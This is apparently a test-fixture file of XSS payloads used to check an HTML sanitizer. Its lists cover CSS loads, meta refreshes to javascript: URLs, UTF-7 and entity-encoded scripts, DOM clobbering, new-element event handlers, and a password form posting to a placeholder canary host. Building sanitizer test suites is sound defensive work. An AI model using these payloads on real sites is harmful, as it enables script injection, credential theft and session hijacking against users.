// XSS vectors that follow no pattern: what single elements and styles could run, load or restyle. See vectors.ts.

export const RUN = '__xss(1)'
export const CANARY = '//canary.invalid'
export const CORE = `<img src=x onerror=${RUN}>`

/** Encodes every letter as a character reference. */
export const entities = (text: string, form: (code: number) => string): string =>
  Array.from(text, (letter) => form(letter.codePointAt(0)!)).join('')

export const styles = [
  `<p style="background:url(${CANARY}/a)">x</p>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(${CANARY}/a.htc)">x</p>`,
  `<p style="-moz-binding:url(${CANARY}/a.xml#x)">x</p>`,
  `<p style="\\62 ackground:u\\72l(${CANARY}/b)">x</p>`,
  `<p style="x:/**/url(${CANARY}/c);list-style-image:url(${CANARY}/d)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9">x</p>`,
  `<style>@import '${CANARY}/e.css';</style>`,
  `<style>*{background:url(${CANARY}/f)}</style>`,
  `<style>@font-face{font-family:x;src:url(${CANARY}/g)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${CANARY}/h)}</style>`,
  `<style>@keyframes x{}</style><p style="animation:x" onanimationstart=${RUN}>`,
  `<link rel=stylesheet href=data:text/css,*{background:url(${CANARY}/i)}>`,
  `<svg><style>@import '${CANARY}/j.css';</style></svg>`,
  `<p class="fixed inset-0 z-50" id="root">x</p>`,
]

export const elements = [
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=http:${CANARY}/">`,
  `<meta http-equiv=set-cookie content="staff_session=x">`,
  `<meta http-equiv=content-security-policy content="script-src 'unsafe-inline'">`,
  `<meta charset=utf-7>+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<base href="http:${CANARY}/"><img src=a.png>`,
  `<form action=http:${CANARY}/><input name=password><input type=submit></form>`,
  `<form id=x></form><button form=x formaction=javascript:${RUN}>x</button>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<applet code=${CANARY}/x.class></applet>`,
  `<object><param name=src value=javascript:${RUN}></object>`,
  `<object classid=clsid:x codebase=${CANARY}></object>`,
  `<bgsound src=javascript:${RUN}>`,
  `<layer src=${CANARY}/l></layer>`,
  `<xml id=i><x><c><![CDATA[<img src=x onerror=${RUN}>]]></c></x></xml>`,
  `<portal src=http:${CANARY}/></portal>`,
  `<fencedframe></fencedframe><script type=speculationrules>{"prefetch":[{"urls":["http:${CANARY}/"]}]}</script>`,
  `<script type=importmap>{"imports":{"a":"http:${CANARY}/"}}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script nomodule>${RUN}</script>`,
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0020type="text/javascript">${RUN}</script\u0020>`,
  `<script/x>${RUN}</script>`,
  `<script ~~~>${RUN}</script ~~~>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script>${entities(RUN, (code) => `&#${code};`)}</script></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;top.${RUN}&lt;/script&gt;"></iframe>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open>${CORE}</template></div>`,
  `<a id=__xss></a><a id=__xss name=x href=javascript:${RUN}></a>`,
  `<form name=document><img name=cookie></form>`,
  `<img name=getElementById><img name=querySelector>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${RUN}>`,
  `<input type=search results=1 onsearch=${RUN} autofocus>`,
  `<html onload=${RUN}><head onload=${RUN}><body onload=${RUN}>`,
  `<?import namespace=x implementation=${CANARY}>`,
  `<img src="x\`<script>${RUN}</script>\`">`,
  `<img """><script>${RUN}</script>">`,
  `<img longdesc="src='x'onerror=${RUN};//" src=x>`,
]
